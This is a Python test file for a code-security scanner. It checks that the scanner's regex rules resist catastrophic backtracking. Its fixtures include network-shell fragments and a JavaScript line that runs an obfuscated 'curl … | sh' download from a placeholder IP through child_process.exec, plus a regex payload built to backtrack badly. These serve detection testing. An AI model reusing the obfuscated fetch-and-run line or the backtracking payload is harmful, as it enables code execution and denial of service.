"""Every regular expression a rule holds (fact conditions, tree-sitter #match? predicates) runs in linear time on
hostile text: long runs of one character, of words and separators. One `re.search` cannot be interrupted by the
per-file budget, so a pattern that backtracks quadratically over a 100 KB string literal stalls a whole scan.

A pattern is judged by how its time grows from 4,000 to 16,000 characters (linear: about 4x; quadratic: 16x),
only when the long text takes long enough to measure (0.1 s)."""
from __future__ import annotations

import re
import signal
import time
from pathlib import Path

import yaml

RULES = Path(__file__).resolve().parent.parent / "rules"
_KEYS = ("matches", "not_matches", "callee", "not_path", "path", "origin")
_PREDICATE = re.compile(r'#(?:not-)?match\? @\w+ "((?:[^"\\]|\\.)*)"')
_UNITS = (" ", "a", "1", "a1", "a ", "\t", "ab-", "x=", "/", ".", "A", "aA1", "_", "$", "\\", '"', "a\n", "-", ":",
          "%", "'", "a.b", "nc ", "mkfifo ", "/dev/tcp/", "\n", "curl ")


def _patterns() -> list[tuple[str, str]]:
    found = []

    def walk(node, where):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in _KEYS and isinstance(value, str):
                    found.append((where, value))
                else:
                    walk(value, where)
        elif isinstance(node, list):
            for value in node:
                walk(value, where)

    for path in sorted(RULES.rglob("*.yaml")):
        rule = yaml.safe_load(path.read_text(encoding="utf-8"))
        where = str(path.relative_to(RULES))
        walk(rule.get("facts"), where)
        for match in _PREDICATE.finditer(rule.get("query") or ""):
            found.append((where, match.group(1).encode().decode("unicode_escape")))
    return found


class _Stalled(Exception):
    pass


def _seconds(regex, text: str) -> float:
    def stop(*_):
        raise _Stalled

    previous = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, 5.0)
    start = time.process_time()
    try:
        regex.search(text)
        return time.process_time() - start
    except _Stalled:
        return float("inf")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def _scanners() -> list[tuple[str, re.Pattern]]:
    """The analyzers' own patterns that search or find all over whole untrusted texts (not anchored by .match)."""
    from codescan.analyze import build_scripts, disguise, embedded, guess, manifests, workflows
    from codescan.analyze.semantics.lang import shell_downloads
    out = [(f"guess._MARKS[{k}]", v) for k, v in guess._MARKS.items()]
    out += [("build_scripts._SENDS", build_scripts._SENDS), ("disguise.PYTHON", disguise.PYTHON),
            ("embedded._FENCE", embedded._FENCE)]
    out += [("manifests.FETCHES_CODE", manifests.FETCHES_CODE), ("workflows._PIPE_TO_SHELL", workflows._PIPE_TO_SHELL),
            ("shell_downloads._PATHLIKE", shell_downloads._PATHLIKE)]
    out += [(f"manifests._DOWNLOADED_TO[{i}]", p) for i, p in enumerate(manifests._DOWNLOADED_TO)]
    return out


def test_rule_patterns_are_linear_on_hostile_text():
    patterns = _patterns()
    assert len(patterns) > 300  # the walk found the rules' patterns
    _linear([(where, re.compile(p)) for where, p in patterns if _compiles(p)])


def test_analyzer_text_scanners_are_linear_on_hostile_text():
    _linear(_scanners())


def _compiles(pattern: str) -> bool:
    try:
        re.compile(pattern)
        return True
    except re.error:
        return False


def _linear(patterns: list) -> None:
    slow = []
    for where, regex in patterns:
        pattern = regex.pattern
        for unit in _UNITS:
            long_time = _seconds(regex, unit * (16_000 // len(unit)) + "!")
            if long_time < 0.1:
                continue
            short_time = _seconds(regex, unit * (4_000 // len(unit)) + "!")
            if long_time == float("inf") or long_time > 8 * max(short_time, 0.01):
                slow.append(f"{where}: {pattern[:60]!r} on {unit!r}: {short_time:.3f} s -> {long_time:.3f} s")
                break
    assert not slow, "\n".join(slow)


def test_raw_string_delimiters_are_counted_not_backtracked():
    from codescan.analyze.semantics.constants import NotConstant
    from codescan.analyze.semantics.lang.clike_literals import _raw_string

    assert _raw_string('r##"a"#b"##') == 'a"#b' and _raw_string('""""x""""') == "x"
    assert _raw_string('u8R"d(a)b)d"') == "a)b" and _raw_string("`a\nb`") == "a\nb"
    start = time.process_time()
    for text in ('"' * 40_000 + "x", "r" + "#" * 40_000 + '"', 'br"' + "#" * 40_000):
        try:
            _raw_string(text)
        except NotConstant:
            pass
    assert time.process_time() - start < 5.0  # the backreference pattern took 25 s for 8,000 quotes


def test_a_js_regex_literal_is_folded_only_when_it_cannot_backtrack_polynomially():
    from codescan.analyze.document import Analyzer
    from codescan.config import Config
    from codescan.records import Document
    from codescan.rules import load_rules

    analyzer = Analyzer(load_rules(), Config(honour_suppressions=False))
    folded = b'const cp = require("child_process");\ncp.exec("cuQrl -s http://203.0.113.9/x | sQh".replace(/Q/g, ""));\n'
    found = analyzer.analyze(Document(path="a.js", content=folded)).findings
    assert any(f.severity in ("high", "critical") for f in found)  # one-quantifier-free pattern: still folded
    hostile = (b'const s = "' + b"a" * 28 + b'".replace(/' + b"a*" * 20 + b'b/, "");\n'
               b'require("child_process").exec(s);\n')
    start = time.process_time()
    analyzer.analyze(Document(path="r.js", content=hostile))
    assert time.process_time() - start < 5.0  # twenty a* over 28 letters: the scan never ended
